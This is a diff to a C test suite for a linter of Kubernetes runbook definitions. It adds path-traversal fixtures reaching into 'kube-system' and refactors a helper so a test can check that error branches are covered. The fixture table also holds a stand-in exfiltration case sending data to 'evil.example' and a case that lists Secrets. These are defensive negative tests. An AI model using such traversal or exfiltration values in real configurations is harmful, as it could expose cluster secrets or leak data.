@@ -268,6 +268,9 @@ static const struct {
 	{"RBL-030", "v1 ConfigMap", "rbac.authorization.k8s.io/v1 ClusterRoleBinding", NULL},
 	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "${drops.rows[0]}", NULL},
 	{"RBL-030", "v1 ConfigMap ${params.namespace}/x", "v1 ${params.unit} a/b", NULL},
+	{"RBL-030", "${params.namespace}/x", "${params.namespace}/../../kube-system/x", NULL},
+	{"RBL-030", "${params.namespace}/x", "../${params.namespace}/x", NULL},
+	{"RBL-030", "${params.namespace}/x", "a/${params.namespace}/x", NULL},
 	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
 	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", NULL},
 	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), NULL},
@@ -473,12 +476,13 @@ static void read_fixtures(struct arena *a, struct fixture f[N_FIXTURES])
 	}
 }
 
-static void fails_with(const struct fixture *f, const char *rule, const char *says)
+static void text_fails_with(const char *text, const struct fixture *f, const char *rule,
+			    const char *says)
 {
 	struct report r;
 	bool found = false;
 
-	lint(&r, good, f, 1);
+	lint(&r, text, f, 1);
 	for (size_t i = 0; i < r.n; i++)
 		found |= r.findings[i].result == FINDING_FAIL && str_eq(r.findings[i].id, rule) &&
 			 str_starts(r.findings[i].message, says);
@@ -487,8 +491,16 @@ static void fails_with(const struct fixture *f, const char *rule, const char *sa
 	report_release(&r);
 }
 
+static void fails_with(const struct fixture *f, const char *rule, const char *says)
+{
+	text_fails_with(good, f, rule, says);
+}
+
 TEST(fixtures_must_take_every_branch_and_lead_where_they_say)
 {
+	auto_free char *errs = edited("  register: agents\n",
+				      "  register: agents\n"
+				      "  on_error: {action: \"goto:agree\", mark: failed}\n");
 	struct arena a = ARENA_INIT;
 	struct fixture f[N_FIXTURES];
 	struct report r;
@@ -502,6 +514,8 @@ TEST(fixtures_must_take_every_branch_and_lead_where_they_say)
 	report_release(&r);
 	fails_with(&f[0], "RBL-028", "no fixture goes from choose to end");
 	fails_with(&f[1], "RBL-028", "no fixture goes from choose to agree");
+	/* Where an error leads is a branch, too. */
+	text_fails_with(errs, &f[0], "RBL-028", "no fixture goes from second to agree");
 	fails_with(&f[8], "RBL-029", "fixture jumps: behind first comes second, not fix");
 	fails_with(&f[9], "RBL-029", "fixture lost concludes unknown, not dropped");
 	arena_release(&a);
